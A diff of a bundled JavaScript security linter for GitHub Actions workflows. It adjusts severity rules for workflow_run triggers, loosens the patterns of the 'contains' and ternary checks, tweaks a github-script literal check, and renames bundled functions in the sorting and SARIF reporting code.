+	const answer = ofPattern.get(source) ?? (pattern.test(source.text) || hidesSomewhere(source));
 	ofPattern.set(source, answer);
+	return answer;
+}
+const hiding = new WeakMap();
+function hidesSomewhere(source) {
+	const answer = hiding.get(source) ?? hidesText.test(source.text);
+	hiding.set(source, answer);
 	return answer;
 }
 function may_say_isIn(text, pattern) {
@@ -23832,8 +24079,12 @@ function judge_run_severityOf({ placed }, { run }, gate) {
 	// Their runs can only read, and get no secrets.
 	if (eventTrust.capped.has(event) || event.startsWith('pull_request_review'))
 		return 'low';
+	if (ofTheirOwn.test(placed.expression.text))
+		return 'low';
 	return /^(?:if|environment)$/.test(placed.key) ? 'high' : 'medium';
 }
+// Behind a review or a comment the actor is its author: nobody acted last on somebody else's work.
+const ofTheirOwn = /workflow_run\.event\s*==\s*'(?:pull_request_review(?:_comment)?|issue_comment|discussion_comment)'/i;
 /** What stops an outsider all the same. */
 function proofFor({ placed }, { run, site, repository }) {
 	const own = site?.step.if;
@@ -25194,8 +25445,8 @@ function isLiteral(expression, { what }, spot) {
 	const { tree, scalar, offset } = expression;
 	if (tree === undefined || !/github-script/.test(what))
 		return false;
-	const before = scalar.value.slice(0, scalar.value.lastIndexOf('${{', offset));
-	if (!/(?:[=(,:?[+&|]|\breturn)\s*$/.test(before))
+	const before = scalar.value.slice(0, scalar.value.lastIndexOf('${{', offset)).trimEnd();
+	if (!/(?:[=(,:?[+&|]|\breturn)$/.test(before.slice(-8)))
 		return false;
 	return tree.kind === 'call' ? tree.name === 'tojson' : isJsonOutput(tree, spot);
 }
@@ -25373,10 +25624,10 @@ function job_sinks_find({ container, services, defaults, workflow }) {
 /** Everything that a job can run and that expressions are filled into, and so for actions that others may use. */
 function spotsOf(repository) {
 	const seen = new Set();
-	const inRuns = everyRun(repository).runs.flatMap((run) => inRun(run, repository, seen));
+	const inRuns = everyRun(repository).runs.flatMap((run) => spots_of_inRun(run, repository, seen));
 	return [...inRuns, ...spots_of_inActions(repository, seen)];
 }
-function inRun(run, repository, seen) {
+function spots_of_inRun(run, repository, seen) {
 	const isWanted = (step) => stepSinks(step).length > 0;
 	const ofSteps = stepsIn(run, repository, isWanted).map((step) => {
 		seen.add(step.step);
@@ -25746,8 +25997,9 @@ const unsound_contains_rule_rule = {
 		action: (action) => unsound_contains_rule_judge(action, undefined),
 	},
 };
+const rule_pattern = /contains/i;
 function unsound_contains_rule_judge(subject, workflow) {
-	const verdicts = expressionsOf(subject, /\bcontains\s*\(/i).flatMap((placed) => searchesIn(placed).map((search) => judgeSearch(search, placed, workflow)));
+	const verdicts = expressionsOf(subject, rule_pattern).flatMap((placed) => searchesIn(placed).map((search) => judgeSearch(search, placed, workflow)));
 	return worstByPlace(verdicts, unsound_contains_rule_meta);
 }
 
@@ -25835,13 +26087,13 @@ const unsound_ternary_rule_rule = {
 		practices: ['P01'],
 	},
 	check: {
-		workflow: (workflow) => unsound_ternary_rule_judge(expressionsOf(workflow, rule_pattern)),
-		job: (job) => unsound_ternary_rule_judge(expressionsOf(job, rule_pattern)),
-		step: (site) => unsound_ternary_rule_judge(expressionsOf(site, rule_pattern)),
-		action: (action) => unsound_ternary_rule_judge(expressionsOf(action, rule_pattern)),
+		workflow: (workflow) => unsound_ternary_rule_judge(expressionsOf(workflow, unsound_ternary_rule_pattern)),
+		job: (job) => unsound_ternary_rule_judge(expressionsOf(job, unsound_ternary_rule_pattern)),
+		step: (site) => unsound_ternary_rule_judge(expressionsOf(site, unsound_ternary_rule_pattern)),
+		action: (action) => unsound_ternary_rule_judge(expressionsOf(action, unsound_ternary_rule_pattern)),
 	},
 };
-const rule_pattern = /&&[\s\S]*\|\|/;
+const unsound_ternary_rule_pattern = /\|\|/;
 function* unsound_ternary_rule_judge(placed) {
 	for (const one of placed)
 		for (const lost of lostMiddles(one))
@@ -32634,7 +32886,7 @@ function reported({ findings, inconclusive, suppressed }, { isReported }) {
 
 ;// CONCATENATED MODULE: ./packages/core/build/engine/sort.js
 /** By path, position, rule, message; the same thing said twice at one place (through an alias) is kept once. */
-function sorted(items) {
+function sort_sorted(items) {
 	const ordered = [...items].sort(sort_compare);
 	return ordered.filter((item, index) => {
 		const before = ordered[index - 1];
@@ -32679,8 +32931,8 @@ function toReport(audits) {
 		version: 1,
 		tool: tool,
 		files: toFiles(audits.flatMap(({ files }) => files)),
-		findings: sorted(audits.flatMap(({ findings }) => findings)),
-		inconclusive: sorted(audits.flatMap(({ inconclusive }) => inconclusive)),
+		findings: sort_sorted(audits.flatMap(({ findings }) => findings)),
+		inconclusive: sort_sorted(audits.flatMap(({ inconclusive }) => inconclusive)),
 		suppressed: sortedByFinding(audits.flatMap(({ suppressed }) => suppressed)),
 		pins: [],
 		stats: audits.map(({ stats }) => stats).reduce(addStats, noStats),
@@ -32692,7 +32944,7 @@ function toFiles(sources) {
 }
 function sortedByFinding(suppressed) {
 	const placed = suppressed.map((one) => ({ ...one.finding, one }));
-	return sorted(placed).map(({ one }) => one);
+	return sort_sorted(placed).map(({ one }) => one);
 }
 const noStats = { files: 0, workflows: 0, actions: 0, uses: 0, images: 0 };
 function addStats(a, b) {
@@ -35658,7 +35910,7 @@ function hashOf({ rule, at }, context) {
 
 ;// CONCATENATED MODULE: ./packages/core/build/reporters/sarif/left-out.js
 /** The notification that says how many results did not fit. */
-function leftOut(number, limit) {
+function left_out_leftOut(number, limit) {
 	if (number === 0)
 		return [];
 	const text = `${number} less severe findings are left out: GitHub refuses more than ${limit} results`;
@@ -35858,7 +36110,7 @@ const sarif = (report, context) => {
 				invocations: [
 					{
 						executionSuccessful: true,
-						toolExecutionNotifications: [...notifications, ...leftOut(left, limit)],
+						toolExecutionNotifications: [...notifications, ...left_out_leftOut(left, limit)],
 					},
 				],
 				results: [
